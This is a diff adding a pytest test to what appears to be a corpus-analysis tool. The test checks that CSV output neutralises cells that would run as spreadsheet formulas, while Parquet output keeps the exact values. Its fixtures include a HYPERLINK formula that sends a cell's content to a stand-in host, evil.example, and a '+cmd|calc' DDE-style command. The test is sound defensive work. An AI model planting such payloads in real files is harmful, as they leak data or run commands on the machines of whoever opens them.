@@ -872,3 +872,33 @@ def test_csv_field_over_the_limit_over_many_lines_is_one_problem(tmp_path):
             "max_bytes limit of 1,000; lines 3-200003 skipped",
         )
     ]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised_parquet_is_exact(tmp_path):
+    from analysis.runner import read_results
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    corpus = tmp_path / "c"
+    write(corpus, "a.txt", f"---\ntitle: '{formula}'\noutlet: '+cmd|calc'\n---\n{GOOD}")
+    write(
+        corpus,
+        "b.txt",
+        "---\ntitle: '@SUM(1)'\noutlet: '-2+3'\n---\n“=1+1 is two,” said Ann Lee.\n",
+    )
+    out = tmp_path / "out"
+    assert main(["analyze", str(corpus), "--out", str(out), "--jobs", "1", "--quiet"]) == 0
+    articles = pd.read_csv(out / "articles.csv", dtype=str, keep_default_na=False)
+    assert articles["title"].tolist() == [f"'{formula}", "'@SUM(1)"]
+    assert articles["outlet"].tolist() == ["'+cmd|calc", "'-2+3"]
+    quotes = pd.read_csv(out / "quotes.csv", dtype=str, keep_default_na=False)
+    assert "'=1+1 is two," in quotes["text"].tolist()
+    balance = pd.read_csv(out / "balance.csv", dtype=str, keep_default_na=False)
+    assert set(balance["outlet"]) == {"'+cmd|calc", "'-2+3"}
+    for path in out.rglob("*.csv"):  # no text cell of any CSV starts like a formula
+        table = pd.read_csv(path, dtype=str, keep_default_na=False)
+        for column in table.columns:
+            text = table[column].loc[lambda v: pd.to_numeric(v, errors="coerce").isna()]
+            assert not text.str.match(r"[=+\-@]").any(), (path.name, column)
+    exact = read_results(out)  # Parquet keeps the values as they are
+    assert exact.articles["title"].tolist() == [formula, "@SUM(1)"]
+    assert "=1+1 is two," in exact.quotes["text"].tolist()
